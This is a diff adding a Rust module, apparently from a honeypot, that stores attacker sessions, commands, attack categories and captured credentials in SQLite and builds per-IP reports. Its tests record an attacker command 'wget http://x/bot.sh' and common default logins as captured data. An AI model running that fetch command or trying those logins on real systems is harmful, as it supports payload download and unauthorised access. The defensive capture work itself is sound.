@@ -0,0 +1,376 @@
+//! Intel Query API
+//!
+//! Read-Model für Analysten ("alles über IP X"): Sessions, Commands und
+//! Angriffskategorien liegen in SQLite (Datei oder In-Memory) und werden
+//! zusammen mit dem `CredentialStore` zu einem `IntelReport` verdichtet.
+//! Jede Tabelle ist gedeckelt und optional nach Alter bereinigt, damit
+//! Dauer-Scanner den Store nicht unbegrenzt wachsen lassen.
+
+use crate::credentials::CredentialStore;
+use rusqlite::{params, Connection};
+use serde::Serialize;
+use std::collections::{BTreeMap, BTreeSet};
+use std::net::IpAddr;
+use std::path::Path;
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, SystemTime, UNIX_EPOCH};
+
+/// Max. Einträge pro Tabelle, ältere werden verworfen
+pub const DEFAULT_MAX_INTEL_ENTRIES: usize = 100_000;
+
+const SCHEMA: &str = "
+    CREATE TABLE IF NOT EXISTS sessions (
+        ip TEXT NOT NULL, service TEXT NOT NULL, at INTEGER NOT NULL
+    );
+    CREATE TABLE IF NOT EXISTS commands (
+        ip TEXT NOT NULL, command TEXT NOT NULL, at INTEGER NOT NULL
+    );
+    CREATE TABLE IF NOT EXISTS attacks (
+        ip TEXT NOT NULL, category TEXT NOT NULL, at INTEGER NOT NULL
+    );
+    CREATE INDEX IF NOT EXISTS sessions_ip_at ON sessions (ip, at);
+    CREATE INDEX IF NOT EXISTS commands_ip_at ON commands (ip, at);
+    CREATE INDEX IF NOT EXISTS attacks_ip_at ON attacks (ip, at);
+    CREATE INDEX IF NOT EXISTS sessions_at ON sessions (at);
+    CREATE INDEX IF NOT EXISTS commands_at ON commands (at);
+    CREATE INDEX IF NOT EXISTS attacks_at ON attacks (at);
+";
+
+/// Tabelle mit (ip, Wert, at)
+struct Table {
+    name: &'static str,
+    column: &'static str,
+}
+
+const SESSIONS: Table = Table {
+    name: "sessions",
+    column: "service",
+};
+const COMMANDS: Table = Table {
+    name: "commands",
+    column: "command",
+};
+const ATTACKS: Table = Table {
+    name: "attacks",
+    column: "category",
+};
+
+/// Filter für `IntelStore::query` (Zeitangaben als Unix-Timestamp in Sekunden)
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct IntelQuery {
+    pub ip: Option<IpAddr>,
+    pub since: Option<u64>,
+    pub until: Option<u64>,
+}
+
+impl IntelQuery {
+    /// Alles zu einer Quell-IP
+    pub fn ip(ip: IpAddr) -> Self {
+        Self {
+            ip: Some(ip),
+            ..Self::default()
+        }
+    }
+
+    /// Auf Zeitraum einschränken
+    pub fn between(mut self, since: u64, until: u64) -> Self {
+        self.since = Some(since);
+        self.until = Some(until);
+        self
+    }
+
+    fn overlaps(&self, first: u64, last: u64) -> bool {
+        self.since.is_none_or(|since| last >= since)
+            && self.until.is_none_or(|until| first <= until)
+    }
+}
+
+/// Verdichtete Sicht auf alle Captures eines Filters
+#[derive(Debug, Clone, Default, PartialEq, Serialize)]
+pub struct IntelReport {
+    pub total_sessions: usize,
+    /// Unterschiedliche Username/Passwort-Paare
+    pub distinct_credentials: usize,
+    pub credentials: Vec<(String, String)>,
+    /// Ausgeführte Commands in Reihenfolge
+    pub commands: Vec<String>,
+    /// Angriffskategorie -> Anzahl
+    pub attack_categories: BTreeMap<String, usize>,
+    pub services: BTreeSet<String>,
+    pub first_seen: Option<u64>,
+    pub last_seen: Option<u64>,
+}
+
+/// Capture-Store für Intel-Abfragen, von allen Handlern geteilt
+#[derive(Debug)]
+pub struct IntelStore {
+    credentials: Arc<CredentialStore>,
+    db: Mutex<Connection>,
+    max_entries: usize,
+    /// Einträge älter als das werden beim Schreiben gelöscht (None = behalten)
+    retention: Option<Duration>,
+}
+
+impl IntelStore {
+    /// In-Memory Store, der Credentials aus dem gemeinsamen `CredentialStore` liest
+    pub fn new(credentials: Arc<CredentialStore>) -> Self {
+        let db = Connection::open_in_memory().expect("in-memory SQLite is always available");
+        Self::with_connection(db, credentials).expect("intel schema is valid")
+    }
+
+    /// Persistenter Store in einer SQLite-Datei (wird bei Bedarf angelegt)
+    pub fn open(
+        path: impl AsRef<Path>,
+        credentials: Arc<CredentialStore>,
+    ) -> Result<Self, Box<dyn std::error::Error>> {
+        Ok(Self::with_connection(Connection::open(path)?, credentials)?)
+    }
+
+    fn with_connection(
+        db: Connection,
+        credentials: Arc<CredentialStore>,
+    ) -> rusqlite::Result<Self> {
+        db.execute_batch(SCHEMA)?;
+        Ok(Self {
+            credentials,
+            db: Mutex::new(db),
+            max_entries: DEFAULT_MAX_INTEL_ENTRIES,
+            retention: None,
+        })
+    }
+
+    /// Mit max. Einträgen pro Tabelle
+    pub fn with_max_entries(mut self, max_entries: usize) -> Self {
+        self.max_entries = max_entries;
+        self
+    }
+
+    /// Mit Aufbewahrungsdauer
+    pub fn with_retention(mut self, retention: Duration) -> Self {
+        self.retention = Some(retention);
+        self
+    }
+
+    /// Neue Session festhalten
+    pub fn record_session(&self, ip: IpAddr, service: &str) {
+        self.record_session_at(ip, service, now());
+    }
+
+    pub fn record_session_at(&self, ip: IpAddr, service: &str, at: u64) {
+        self.insert(&SESSIONS, ip, service, at);
+    }
+
+    /// Ausgeführtes Command festhalten
+    pub fn record_command(&self, ip: IpAddr, command: &str) {
+        self.record_command_at(ip, command, now());
+    }
+
+    pub fn record_command_at(&self, ip: IpAddr, command: &str, at: u64) {
+        self.insert(&COMMANDS, ip, command, at);
+    }
+
+    /// Erkannten Angriff (z.B. "sql_injection") festhalten
+    pub fn record_attack(&self, ip: IpAddr, category: &str) {
+        self.record_attack_at(ip, category, now());
+    }
+
+    pub fn record_attack_at(&self, ip: IpAddr, category: &str, at: u64) {
+        self.insert(&ATTACKS, ip, category, at);
+    }
+
+    fn insert(&self, table: &Table, ip: IpAddr, value: &str, at: u64) {
+        let db = self.db.lock().unwrap();
+        let result = db
+            .execute(
+                &format!("INSERT INTO {} VALUES (?1, ?2, ?3)", table.name),
+                params![ip.to_string(), value, at as i64],
+            )
+            .and_then(|_| self.prune(&db, table));
+        if let Err(e) = result {
+            tracing::warn!("⚠️ Intel store write to {} failed: {}", table.name, e);
+        }
+    }
+
+    /// Älteste Einträge über dem Limit und abgelaufene Einträge löschen
+    fn prune(&self, db: &Connection, table: &Table) -> rusqlite::Result<()> {
+        db.execute(
+            &format!(
+                "DELETE FROM {0} WHERE rowid <= (SELECT MAX(rowid) FROM {0}) - ?1",
+                table.name
+            ),
+            [self.max_entries as i64],
+        )?;
+        if let Some(retention) = self.retention {
+            let cutoff = now().saturating_sub(retention.as_secs());
+            db.execute(
+                &format!("DELETE FROM {} WHERE at < ?1", table.name),
+                [cutoff as i64],
+            )?;
+        }
+        Ok(())
+    }
+
+    /// (Wert, at) eines Filters in Einfügereihenfolge
+    fn select(
+        db: &Connection,
+        table: &Table,
+        query: &IntelQuery,
+    ) -> rusqlite::Result<Vec<(String, u64)>> {
+        let mut statement = db.prepare(&format!(
+            "SELECT {}, at FROM {} WHERE (?1 IS NULL OR ip = ?1) \
+             AND (?2 IS NULL OR at >= ?2) AND (?3 IS NULL OR at <= ?3) ORDER BY rowid",
+            table.column, table.name
+        ))?;
+        let rows = statement.query_map(
+            params![
+                query.ip.map(|ip| ip.to_string()),
+                query.since.map(|since| since as i64),
+                query.until.map(|until| until as i64)
+            ],
+            |row| Ok((row.get::<_, String>(0)?, row.get::<_, i64>(1)? as u64)),
+        )?;
+        rows.collect()
+    }
+
+    /// Report für IP und/oder Zeitraum
+    pub fn query(&self, query: &IntelQuery) -> IntelReport {
+        let mut report = IntelReport::default();
+        let mut seen = |at: u64| {
+            report.first_seen = Some(report.first_seen.map_or(at, |first| first.min(at)));
+            report.last_seen = Some(report.last_seen.map_or(at, |last| last.max(at)));
+        };
+
+        let db = self.db.lock().unwrap();
+        let select = |table: &Table| {
+            Self::select(&db, table, query).unwrap_or_else(|e| {
+                tracing::warn!("⚠️ Intel query on {} failed: {}", table.name, e);
+                Vec::new()
+            })
+        };
+        let sessions = select(&SESSIONS);
+        let commands = select(&COMMANDS);
+        let attacks = select(&ATTACKS);
+        drop(db);
+
+        let mut services = BTreeSet::new();
+        for (service, at) in &sessions {
+            services.insert(service.clone());
+            seen(*at);
+        }
+
+        for (_, at) in &commands {
+            seen(*at);
+        }
+
+        let mut attack_categories = BTreeMap::new();
+        for (category, at) in attacks {
+            *attack_categories.entry(category).or_insert(0) += 1;
+            seen(at);
+        }
+
+        let mut credentials = Vec::new();
+        for record in self.credentials.records() {
+            let from_ip = query.ip.is_none_or(|ip| record.source_ips.contains(&ip));
+            if from_ip && query.overlaps(record.first_seen, record.last_seen) {
+                credentials.push((record.username, record.password));
+                services.extend(record.services);
+            }
+        }
+
+        IntelReport {
+            total_sessions: sessions.len(),
+            distinct_credentials: credentials.len(),
+            credentials,
+            commands: commands.into_iter().map(|(command, _)| command).collect(),
+            attack_categories,
+            services,
+            ..report
+        }
+    }
+}
+
+fn now() -> u64 {
+    SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .map(|d| d.as_secs())
+        .unwrap_or_default()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_ip_query_aggregates_captures() {
+        let attacker: IpAddr = "203.0.113.50".parse().unwrap();
+        let other: IpAddr = "198.51.100.2".parse().unwrap();
+
+        let credentials = Arc::new(CredentialStore::new());
+        credentials.record(attacker, "SSH", "root", "toor");
+        credentials.record(attacker, "SSH", "root", "toor");
+        credentials.record(attacker, "HTTP", "admin", "admin");
+        credentials.record(other, "SSH", "pi", "raspberry");
+
+        let store = IntelStore::new(credentials);
+        store.record_session_at(attacker, "SSH", 1_000);
+        store.record_session_at(attacker, "HTTP", 1_200);
+        store.record_session_at(other, "SSH", 1_100);
+        store.record_command_at(attacker, "uname -a", 1_010);
+        store.record_command_at(attacker, "wget http://x/bot.sh", 1_020);
+        store.record_attack_at(attacker, "sql_injection", 1_210);
+        store.record_attack_at(attacker, "sql_injection", 1_220);
+        store.record_attack_at(attacker, "path_traversal", 1_230);
+
+        let report = store.query(&IntelQuery::ip(attacker));
+        assert_eq!(report.total_sessions, 2);
+        assert_eq!(report.distinct_credentials, 2);
+        assert_eq!(
+            report.credentials,
+            [
+                ("admin".to_string(), "admin".to_string()),
+                ("root".to_string(), "toor".to_string()),
+            ]
+        );
+        assert_eq!(report.commands, ["uname -a", "wget http://x/bot.sh"]);
+        assert_eq!(report.attack_categories["sql_injection"], 2);
+        assert_eq!(report.attack_categories["path_traversal"], 1);
+        assert_eq!(report.first_seen, Some(1_000));
+        assert_eq!(report.last_seen, Some(1_230));
+
+        // Zeitfenster schränkt Sessions/Commands/Angriffe ein
+        let window = store.query(&IntelQuery::ip(attacker).between(1_150, 1_215));
+        assert_eq!(window.total_sessions, 1);
+        assert!(window.commands.is_empty());
+        assert_eq!(window.attack_categories["sql_injection"], 1);
+    }
+
+    #[test]
+    fn test_entries_are_capped_expired_and_persisted() {
+        let attacker: IpAddr = "203.0.113.51".parse().unwrap();
+        let credentials = Arc::new(CredentialStore::new());
+
+        let store = IntelStore::new(credentials.clone()).with_max_entries(3);
+        for i in 0..10 {
+            store.record_command_at(attacker, &format!("cmd {}", i), 1_000 + i);
+        }
+        let report = store.query(&IntelQuery::ip(attacker));
+        assert_eq!(report.commands, ["cmd 7", "cmd 8", "cmd 9"]);
+
+        // Alte Einträge fallen beim nächsten Schreiben aus dem Fenster
+        let store = IntelStore::new(credentials.clone()).with_retention(Duration::from_secs(3600));
+        store.record_attack_at(attacker, "sql_injection", 1_000);
+        store.record_attack(attacker, "path_traversal");
+        let report = store.query(&IntelQuery::ip(attacker));
+        assert_eq!(report.attack_categories.len(), 1);
+        assert!(report.attack_categories.contains_key("path_traversal"));
+
+        let path = std::env::temp_dir().join(format!("honeytrap-intel-{}.db", std::process::id()));
+        let _ = std::fs::remove_file(&path);
+        IntelStore::open(&path, credentials.clone())
+            .unwrap()
+            .record_session_at(attacker, "SSH", 1_000);
+        let reopened = IntelStore::open(&path, credentials).unwrap();
+        assert_eq!(reopened.query(&IntelQuery::ip(attacker)).total_sessions, 1);
+        std::fs::remove_file(&path).unwrap();
+    }
+}